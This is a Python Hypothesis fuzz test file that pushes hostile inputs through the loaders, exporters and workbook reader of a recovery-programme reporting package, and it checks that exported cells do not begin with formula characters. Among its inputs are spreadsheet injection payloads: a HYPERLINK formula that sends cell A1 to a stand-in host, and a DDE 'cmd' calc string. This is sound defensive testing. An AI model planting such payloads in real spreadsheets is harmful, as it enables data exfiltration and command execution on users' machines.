"""Hostile input through every loader and on to the exporters and the workbook reader: long texts
(thousands of characters), extreme magnitudes, control characters, formula starts and unit
expressions. Each loader gives a LoadError naming the file, or objects that every exporter writes.

The number of generated inputs (files put through a loader) is fixed here, whatever the Hypothesis
profile, and each test checks that it ran them all: :data:`FUZZ_COUNTS` adds up to at least 10,000
inputs per run. Each generated example is a batch of :data:`BATCH` files.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import tempfile
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import ezhou_recovery as er
from ezhou_recovery.display import rows as _records
from ezhou_recovery.io.records import write_csv, write_json
from ezhou_recovery.io.xlsx.forms import write_reporting_workbook
from ezhou_recovery.io.xlsx.reading import read_reporting_workbook
from ezhou_recovery.strategies import extreme_decimals

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "docs" / "examples" / "small_programme.toml"
PLAN = er.load_programme(SAMPLE)
EZHOU = er.load_ezhou_plan()
Q2 = er.quarter_of(date(2021, 5, 1))

#: Inputs generated per test; the total is what one run of the suite puts through the loaders.
FUZZ_COUNTS: dict[str, int] = {
    "observations_csv": 4000,
    "investment_csv": 1500,
    "submissions_csv": 2000,
    "observations_json": 1500,
    "programme_json": 1000,
    "workbook": 100,
}


#: Files per generated example.
BATCH = 5


def test_the_fuzz_tests_put_at_least_ten_thousand_inputs_through_the_loaders() -> None:
    assert sum(FUZZ_COUNTS.values()) >= 10_000


def fuzz(name: str) -> settings:
    return settings(
        max_examples=-(-FUZZ_COUNTS[name] // BATCH),
        deadline=None,
        database=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )


# Hostile cells ----------------------------------------------------------------------------------

long_texts = st.builds(
    lambda piece, times: piece * times,
    st.text(min_size=1, max_size=12),
    st.integers(100, 700),
)
control_texts = st.builds(
    lambda a, c, b: a + c + b,
    st.text(max_size=5),
    st.sampled_from(["\x00", "\x01", "\x08", "\x0b", "\x1b", "\x7f", "\x85", "\ud800", "\udfff"]),
    st.text(max_size=5),
)
formula_texts = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'=", "''+"]),
    st.sampled_from(['HYPERLINK("http://x.invalid/?"&A1,"x")', "1+1", "cmd|' /C calc'!A0", ""]),
)
extreme_numbers = st.one_of(
    extreme_decimals().map(lambda d: format(d, "f")),
    extreme_decimals().map(str),
    st.sampled_from(["1e15", "1e400", "1E-31", "9" * 19, "0." + "0" * 40 + "1", "-0", "1e-999999"]),
)
units = st.sampled_from(["", "公里", "km", "亿元", "万元", "%", "张", "个", "m**2", "平方米/人"])
unit_bombs = st.sampled_from(
    [
        "m**9**9**9",
        "9**9**9",
        "m^9^9^9",
        "((9**99)**99)",
        "m squared squared squared",
        "km**1e999",
        "m" * 200,
        "m*" * 40 + "m",
    ]
)
values = st.one_of(
    st.builds(lambda n, u: n + u, extreme_numbers, units),
    st.builds(lambda n, u: f"{n} {u}", st.sampled_from(["1", "12", "0.5"]), unit_bombs),
    st.just("1" + " " * 4000 + "x\ny"),
)
hostile = st.one_of(long_texts, control_texts, formula_texts, values, st.text(max_size=30))


def csv_text(header: list[str], rows: list[list[str]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def counted(name: str, run: Callable[[], None], count: list[int]) -> None:
    """Run a fuzz test and check it put all its inputs through the loaders."""
    run()
    assert count[0] >= FUZZ_COUNTS[name], (name, count[0])


@pytest.fixture
def scratch(tmp_path: Path) -> Iterator[Path]:
    """A folder for the generated files: in memory where the system offers it (thousands of files
    are written), else the test's temporary folder."""
    shm = Path("/dev/shm")
    if shm.is_dir() and os.access(shm, os.W_OK):
        folder = Path(tempfile.mkdtemp(dir=shm))
        yield folder
        shutil.rmtree(folder, ignore_errors=True)
    else:  # pragma: no cover - systems without a memory file system
        yield tmp_path


def batches(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[list[Any]]:
    return st.lists(strategy, min_size=BATCH, max_size=BATCH)


def load(path: Path, loader: Callable[[Path], Any]) -> Any:
    """The loader's result, or None after checking its LoadError names the file."""
    try:
        return loader(path)
    except er.LoadError as error:
        caught = error
    assert caught.source == str(path)
    assert str(caught).startswith(str(path))
    return None


# Exporters --------------------------------------------------------------------------------------


def export_assessment(assessment: er.Assessment) -> None:
    assert str(assessment)
    assert assessment._repr_html_()
    rows = [_records.result_record(r) for r in assessment.results]
    out = io.StringIO()
    write_csv(rows, _records.RESULT_COLUMNS, out)
    write_json(rows, io.StringIO())
    money = [_records.money_record(m) for m in (*assessment.money, assessment.money_total)]
    write_csv(money, _records.MONEY_COLUMNS, io.StringIO())
    write_json(money, io.StringIO())
    for row in csv.reader(io.StringIO(out.getvalue())):
        assert not any(cell.startswith(("=", "+", "@")) for cell in row)


def export_observations(observations: tuple[er.Observation, ...]) -> None:
    rows = [_records.observation_record(o) for o in observations]
    write_csv(rows, _records.OBSERVATION_COLUMNS, io.StringIO())
    write_json(rows, io.StringIO())
    for o in observations:
        assert repr(o)
        assert er.from_json(er.to_json(o), er.Observation) == o


# Loaders ----------------------------------------------------------------------------------------

targets = st.sampled_from([t.key for t in PLAN.targets]) | hostile
days = st.sampled_from(["2021-06-30", "２０２１－０６－３０"]) | hostile
AS_OF = date(2021, 12, 31)


def observation_file(path: Path, rows: list[tuple[str, str, str, str]]) -> None:
    text = csv_text(["target", "as_of", "value", "source"], [list(r) for r in rows])
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    per_object = load(path, lambda p: er.load_observations(p, PLAN))
    columnar = load(path, lambda p: er.load_observations(p, PLAN, columnar=True))
    assert (per_object is None) == (columnar is None)
    if per_object is None:
        return
    export_observations(per_object)
    try:
        assessment = er.assess(PLAN, per_object, as_of=AS_OF)
    except er.InvariantError as error:
        assert "disagrees" in str(error)  # noqa: PT017 - two values of one day
        return
    assert er.assess(PLAN, columnar, as_of=AS_OF).results == assessment.results
    export_assessment(assessment)


def test_observation_csv_rows(scratch: Path) -> None:
    count = [0]
    rows = st.lists(st.tuples(targets, days, values | hostile, hostile), min_size=1, max_size=4)

    @fuzz("observations_csv")
    @given(batch=batches(rows))
    def run(batch: list[list[tuple[str, str, str, str]]]) -> None:
        for item in batch:
            count[0] += 1
            observation_file(scratch / "o.csv", item)

    counted("observations_csv", run, count)


def investment_file(path: Path, rows: list[tuple[str, str, str]]) -> None:
    text = csv_text(["subject", "as_of", "completed"], [list(r) for r in rows])
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    reports = load(path, lambda p: er.load_investment_reports(p, PLAN))
    if reports is None:
        return
    try:
        assessment = er.assess(PLAN, [], as_of=AS_OF, investment=reports)
    except er.InvariantError as error:
        assert "disagree" in str(error)  # noqa: PT017
        return
    export_assessment(assessment)


def test_investment_csv_rows(scratch: Path) -> None:
    count = [0]
    subjects = st.sampled_from([c.key for c in PLAN.categories]) | hostile
    rows = st.lists(st.tuples(subjects, days, values | hostile), min_size=1, max_size=3)

    @fuzz("investment_csv")
    @given(batch=batches(rows))
    def run(batch: list[list[tuple[str, str, str]]]) -> None:
        for item in batch:
            count[0] += 1
            investment_file(scratch / "i.csv", item)

    counted("investment_csv", run, count)


MOMENTS = [
    "2021-07-05",
    "2021-07-05T10:00+08:00",
    "1900-01-01T00:00+14:00",
    "２０２１－０７－０５",
    "2199-12-31T23:59-12:00",
]


def submission_file(path: Path, rows: list[tuple[str, ...]]) -> None:
    header = ["obligation", "department", "period", "submitted_at", "note"]
    text = csv_text(header, [list(r) for r in rows])
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    submissions = load(path, lambda p: er.load_submissions(p, er.load_ezhou_plan()))
    if submissions is None:
        return
    records = [_records.submission_record(s) for s in submissions]
    write_csv(records, _records.SUBMISSION_COLUMNS, io.StringIO())
    write_json(records, io.StringIO())
    for s in submissions:
        assert er.from_json(er.to_json(s), er.Submission) == s


def test_submission_csv_rows(scratch: Path) -> None:
    count = [0]
    rows = st.lists(
        st.tuples(
            st.just("quarterly_progress") | hostile,
            st.just("transport_bureau") | hostile,
            st.just("2021Q2") | hostile,
            st.sampled_from(MOMENTS) | hostile,
            hostile,
        ),
        min_size=1,
        max_size=3,
    )

    @fuzz("submissions_csv")
    @given(batch=batches(rows))
    def run(batch: list[list[tuple[str, ...]]]) -> None:
        for item in batch:
            count[0] += 1
            submission_file(scratch / "s.csv", item)

    counted("submissions_csv", run, count)


json_values = st.one_of(
    hostile,
    extreme_decimals().map(float),
    st.sampled_from([1e15, 1e29, 1e308, -1.0, 10**30, 2**64, 0.1 + 0.2]),
    st.integers(),
    st.floats(allow_nan=False, allow_infinity=False),
)


def test_observation_json_entries(scratch: Path) -> None:
    count = [0]
    entries = st.lists(st.tuples(targets, days, json_values, hostile), min_size=1, max_size=3)

    @fuzz("observations_json")
    @given(batch=batches(entries))
    def run(batch: list[list[tuple[str, str, Any, str]]]) -> None:
        for item in batch:
            count[0] += 1
            document = [{"target": t, "as_of": d, "value": v, "source": s} for t, d, v, s in item]
            path = scratch / "o.json"
            path.write_text(
                json.dumps(document, ensure_ascii=False), encoding="utf-8", errors="surrogatepass"
            )
            observations = load(path, lambda p: er.load_observations(p, PLAN))
            if observations is not None:
                export_observations(observations)

    counted("observations_json", run, count)


SAMPLE_DATA = json.loads(er.to_json(PLAN))
TEXT_FIELDS = [
    ("title_zh",),
    ("title_en",),
    ("categories", 0, "name_zh"),
    ("categories", 0, "name_en"),
    ("categories", 0, "lead_departments", 0, "name_zh"),
    ("categories", 0, "targets", 0, "description_zh"),
    ("categories", 0, "targets", 0, "description_en"),
    ("categories", 0, "targets", 0, "value"),
]


def programme_file(path: Path, place: tuple[Any, ...], text: str) -> None:
    data = json.loads(json.dumps(SAMPLE_DATA))
    parent = data
    for step in place[:-1]:
        parent = parent[step]
    parent[place[-1]] = text
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8", errors="surrogatepass")
    programme = load(path, er.load_programme)
    if programme is None:
        return
    assert er.from_json(er.to_json(programme), er.Programme) == programme
    assert str(programme)
    assert programme._repr_html_()
    records = [_records.target_record(t) for t in programme.targets]
    write_csv(records, _records.TARGET_COLUMNS, io.StringIO())
    write_json(records, io.StringIO())


def test_programme_text_fields(scratch: Path) -> None:
    count = [0]

    @fuzz("programme_json")
    @given(batch=batches(st.tuples(st.sampled_from(TEXT_FIELDS), hostile)))
    def run(batch: list[tuple[tuple[Any, ...], str]]) -> None:
        for place, text in batch:
            count[0] += 1
            programme_file(scratch / "p.json", place, text)

    counted("programme_json", run, count)


@pytest.fixture(scope="module")
def blank_workbook(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    path = tmp_path_factory.mktemp("wb") / "blank.xlsx"
    return write_reporting_workbook(EZHOU, "transport_bureau", path, period=Q2).read_bytes()


def workbook_file(
    path: Path,
    blank: bytes,
    filled: list[tuple[str, int, Any]],
    about: tuple[str, str] | None,
) -> None:
    path.write_bytes(blank)
    book = openpyxl.load_workbook(path)
    sheet = book["目标 Targets"]
    for column, row, value in filled:
        try:
            sheet[f"{column}{row}"] = value
        except openpyxl.utils.exceptions.IllegalCharacterError:
            sheet[f"{column}{row}"] = "x"
    if about is not None:
        with contextlib.suppress(openpyxl.utils.exceptions.IllegalCharacterError):
            book["说明 About"][about[0]] = about[1]
    try:
        book.save(path)
    except (UnicodeEncodeError, ValueError):
        return  # openpyxl cannot write the text: no such workbook exists
    read = load(path, lambda p: read_reporting_workbook(p, EZHOU))
    if read is not None:
        export_observations(read.observations)


def test_the_workbook_reader(scratch: Path, blank_workbook: bytes) -> None:
    count = [0]
    cells = st.one_of(hostile, extreme_decimals().map(float), st.floats(allow_nan=False))
    filled = st.lists(
        st.tuples(st.sampled_from(["I", "J", "K"]), st.integers(2, 12), cells),
        min_size=1,
        max_size=4,
    )
    about = st.none() | st.tuples(st.sampled_from(["B3", "B4", "B5"]), hostile)

    @fuzz("workbook")
    @given(batch=batches(st.tuples(filled, about)))
    def run(batch: list[tuple[list[tuple[str, int, Any]], tuple[str, str] | None]]) -> None:
        for cells_filled, about_cell in batch:
            count[0] += 1
            workbook_file(scratch / "filled.xlsx", blank_workbook, cells_filled, about_cell)

    counted("workbook", run, count)
